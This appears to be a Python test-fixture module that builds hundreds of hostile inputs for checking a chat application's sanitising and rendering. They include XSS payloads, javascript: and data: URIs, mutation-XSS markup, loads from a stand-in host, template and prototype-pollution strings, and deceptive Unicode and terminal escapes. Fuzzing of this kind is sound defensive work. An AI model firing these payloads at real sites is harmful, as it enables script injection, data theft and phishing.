"""What somebody may say who would like it to be more than text. Where it runs, it sets `pwned` or opens a dialog."""

from __future__ import annotations

RUN = "pwned=1"
ELSEWHERE = "//elsewhere.example/x"


def _words(text: str) -> list[str]:
    return text.split()


_EVENTS = _words(
    "onerror onload onclick onmouseover onfocus onblur onanimationstart ontransitionend "
    "ontoggle onpointerenter onwheel "
    "onbeforeinput oncopy oncut ondrag onscroll onbegin onend onrepeat onhashchange onpageshow onmessage onresize"
)

_TAGS = _words(
    "img svg audio video iframe object embed input textarea select button details marquee body "
    "math style link meta base "
    "form isindex keygen template slot portal dialog canvas noscript noembed noframes plaintext "
    "xmp listing frameset title "
)

_SCHEMES = (
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "java\tscript:pwned=1",
    "java\nscript:pwned=1",
    "java\x00script:pwned=1",
    " javascript:pwned=1",
    "\x01javascript:pwned=1",
    "javascript&colon;pwned=1",
    "&#106;avascript:pwned=1",
    "&#x6A;avascript:pwned=1",
    "javascript:%0apwned=1",
    "javascript://http://a.example/%0apwned=1",
    "javascript:http://a.example",
    "data:text/html,<script>pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "DATA:text/html,x",
    "vbscript:pwned=1",
    "view-source:http://a.example/",
    "feed:javascript:pwned=1",
    "blob:http://a.example/1",
    "file:///etc/passwd",
    "filesystem:http://a.example/",
    "about:blank",
    "chrome://settings",
    "ftp://a.example/",
    "mailto:a@a.example?subject=<b>",
    "tel:+1",
    "intent://a#Intent;scheme=http;end",
    "ws://a.example/",
    "wss://a.example/",
    "jar:http://a.example!/",
    "ｊａｖａｓｃｒｉｐｔ:pwned=1",
    "javascript\u00ad:pwned=1",
    "javascript\u200b:pwned=1",
    "\u202ejavascript:pwned=1",
)

_ADDRESSES = (
    "http://a.example/",
    "HTTPS://A.EXAMPLE/PATH",
    "http://a.example/?a=b&c=d#e",
    "http://a.example/(in)",
    "(http://a.example/x)",
    "http://a.example/x.",
    "http://a.example/'onclick='pwned=1",
    'http://a.example/"onclick="pwned=1',
    'http://a.example/" onmouseover="pwned=1',
    "http://a.example/x onerror=pwned=1",
    "http://a.example/`onclick=`pwned=1",
    "http://a.example/><script>pwned=1</script>",
    "http://a.example/%22%3E%3Cscript%3Epwned=1%3C/script%3E",
    "http://a.example/&quot;onclick=&quot;pwned=1",
    "http://javascript:pwned=1",
    "http://javascript:pwned=1@a.example/",
    "http://a.example@b.example/",
    "http://a.example:80@b.example/",
    "http://a.example\\@b.example/",
    "http://a.example\\\\b.example/",
    "http:a.example",
    "http:/a.example",
    "http:///a.example",
    "http:////a.example",
    "http:\\\\a.example",
    "http://",
    "http://?",
    "http://#",
    "http://.",
    "http://..",
    "http://[::1]/",
    "http://[::1",
    "http://[<script>]/",
    "http://a.example:99999/",
    "http://a.example:0/",
    "http://a.example:x/",
    "http://%00/",
    "http://a%2eexample/",
    "http://a.example/%",
    "http://a.example/%zz",
    "http://\u0430pple.example/",
    "http://xn--/",
    "http://a.example\u3002example/",
    "http://a\u00adb.example/",
    "http://a\u200bb.example/",
    "http://a.example/\u202egpj.exe",
    "http://0x7f.1/",
    "http://2130706433/",
    "http://①②③.example/",
    "hhttp://a.example/",
    "xhttp://a.example/",
    "http://http://a.example/",
    "http://a.example/http://b.example/",
    "https://a.example,https://b.example",
    "https://a.example/<b>bold</b>",
    "https://user:pass@a.example/",
    "https://a.example/" + "a" * 2000,
    "https://" + "a" * 300 + ".example/",
    "https://a.example/" + "(" * 200 + ")" * 200,
    "https://a.example/" + ".,;:!?" * 300,
    "//elsewhere.example/x",
    "www.a.example",
    "a.example/x",
)

_MARKUP = (
    "<script>pwned=1</script>",
    "<SCRIPT SRC=//elsewhere.example/x></SCRIPT>",
    "<script/src=//elsewhere.example/x>",
    "</script><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "]]><script>pwned=1</script>",
    "<!--<img src=x onerror=pwned=1>-->",
    "<![CDATA[<script>pwned=1</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:pwned=1>",
    "<svg><foreignObject><img src=x onerror=pwned=1>",
    "<svg><use href=//elsewhere.example/x#a>",
    "<math><mi xlink:href='javascript:pwned=1'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=pwned=1 src>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<iframe src=//elsewhere.example/x>",
    "<object data=//elsewhere.example/x>",
    "<link rel=stylesheet href=//elsewhere.example/x>",
    "<link rel=prefetch href=//elsewhere.example/x>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/x'>",
    "<base href=//elsewhere.example/>",
    "<style>@import '//elsewhere.example/x';</style>",
    "<style>*{background:url(//elsewhere.example/x)}</style>",
    "<p style='background:url(//elsewhere.example/x)'>",
    "<div style=position:fixed;inset:0;z-index:999>over all</div>",
    "<img src=//elsewhere.example/x>",
    "<img srcset='//elsewhere.example/x 2x'>",
    "<video poster=//elsewhere.example/x>",
    "<input autofocus onfocus=pwned=1>",
    "<a href=javascript:pwned=1>x</a>",
    "<a id=app></a><a id=app name=chat></a>",
    "<form id=compose><input name=action>",
    "<img name=getElementById>",
    "<template><script>pwned=1</script></template>",
    "<x onclick=pwned=1>x</x>",
    "<dialog open>Enter your password</dialog>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "\\x3cscript\\x3epwned=1",
    "\\u003cscript\\u003epwned=1",
    "%3Cscript%3Epwned=1%3C/script%3E",
    "＜script＞pwned=1＜/script＞",
    "‹script›pwned=1",
    "<\x00script>pwned=1</script>",
    "<scr\x00ipt>pwned=1</script>",
    "<script\x0c>pwned=1</script>",
    "<img\x0bsrc=x\x0conerror=pwned=1>",
    "<<script>script>pwned=1",
    "<a<b<c<d",
    "< script >pwned=1</ script >",
    "\"'><script>pwned=1</script>",
    "';pwned=1;//",
    '";pwned=1;//',
    "`;pwned=1;//",
    "'-pwned=1-'",
    "*/pwned=1/*",
    "\\';pwned=1;//",
    "</div></main></body></html>",
)

_TEMPLATES = (
    "{{pwned=1}}",
    "{{constructor.constructor('pwned=1')()}}",
    "${pwned=1}",
    "`${pwned=1}`",
    "#{pwned=1}",
    "<%= pwned=1 %>",
    "[[pwned=1]]",
    "{%pwned%}",
    "$pwned",
    "$&$1$$$`$'",
    "%s%d%n%x",
    "{0}{name}",
    "[x](javascript:pwned=1)",
    "![x](//elsewhere.example/x)",
    "<http://a.example/>",
    "[x]: javascript:pwned=1",
    "**bold** _it_ ~~gone~~ # head",
    "expression(pwned=1)",
    "url(javascript:pwned=1)",
    "color:red;background:url(//elsewhere.example/x)",
    "var(--name-0)",
    "@import url(//elsewhere.example/x);",
    ":root{--paper:red}",
    "data-key=new class=you id=log",
    '{"do":"quit"}',
    '{"event":"said","text":"x"}',
    "\\",
    "\\\\",
    "\\n\\r\\t\\0",
    "\\ud800",
    "'\"`<>&",
)

_WORDS = _words(
    "__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ __lookupSetter__ isPrototypeOf "
    "propertyIsEnumerable toLocaleString toJSON then null undefined NaN Infinity true false length name this arguments "
    "eval Function window document location alert self top parent globalThis 0 -1 1e999 0x10 [] {} [object] ..."
)

_UNICODE = (
    "\u202egnp.exe",
    "\u2066isolated\u2069 \u202aembedded\u202c",
    "\u200fright\u200eleft",
    "שלום עולם",
    "مرحبا بالعالم http://a.example/",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 20 + "algo",
    "\u0300\u0301\u0302starts with marks",
    "\u200b\u200c\u200d\u2060 zero width",
    "\ufeffbom",
    "\u00ad soft",
    "\u2028line\u2029paragraph",
    "nul\x00 bell\x07 bs\x08 esc\x1b[31mred\x1b[0m del\x7f",
    "\x1b]0;title\x07 osc",
    "\x9b31m c1 \x85 nel",
    "\x02found\x03 marks",
    "\x02<b>\x03 \x02 \x03",
    "\ufff9anno\ufffatation\ufffb",
    "\U000e0041\U000e0042 tags",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 1️⃣",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "ﷺ" * 40,
    "𝓼𝓬𝓻𝓲𝓹𝓽",
    "İIıi ß ẞ ſ ﬁ Σσς",
    "\uffff\ufffe \U0010ffff",
    "\u3164\u115f\uffa0 fillers",
    "\u0e47" * 60 + " thai",
    "\tTab\tTab",
    "  spaces   inside   ",
    "two\nrows",
    "many" + "\n" * 40 + "rows",
    "w" * 4000,
    "ш" * 2000,
    "名" * 1500,
    "😀" * 1000,
    "-" * 3000,
    "a " * 2000,
    "`" * 50,
    "`code <b>` and `more`",
    "`<script>pwned=1</script>`",
    "x ``` y",
    "https://" * 200,
    "@" * 500,
    "<" * 3000,
    "&" * 3000,
    "(" * 2000,
)

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *_MARKUP,
            *(f"<img src=x {event}={RUN}>" for event in _EVENTS),
            *(f"<svg/{event}={RUN}>" for event in _EVENTS),
            *(f"<{tag} onload={RUN} onerror={RUN} src={ELSEWHERE}>" for tag in _TAGS),
            *_SCHEMES,
            *(f"see http://a.example/#{scheme} or {scheme}" for scheme in _SCHEMES),
            *_ADDRESSES,
            *_TEMPLATES,
            *_WORDS,
            *_UNICODE,
        ]
    )
)
"""Hundreds of them, each different."""

BROKEN = (
    r"\ud800",
    r"\udc00 low first",
    r"\ud800\ud800",
    r"\ud83d \ude00",
    r"\udc00\ud800",
    r"\ud83d",
    r"\u0000",
    r"\u0000\u001b[1m",
    r"\uFFFE\uFFFF",
    r"<\u0073cript>pwned=1</\u0073cript>",
    r"\u003cimg src=x onerror=pwned=1\u003e",
    r"\u2028\u2029",
    r"\u202e",
)
"""What may stand between the quotes of a JSON string, and is no text or not the one it seems to be."""

NAMES = (
    *_words(
        "__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ toJSON "
        "then null undefined NaN "
        "true false length new pending more lobby note log composer [object] {{pwned}} [[]] {} | ` ^_^ - _ `x` x`y a|b "
        "שלום عمر Иван 名前 Ünal ß ıI Σας ไทย"
    ),
    "W" * 32,
)
"""What may be called so: users, and rooms."""
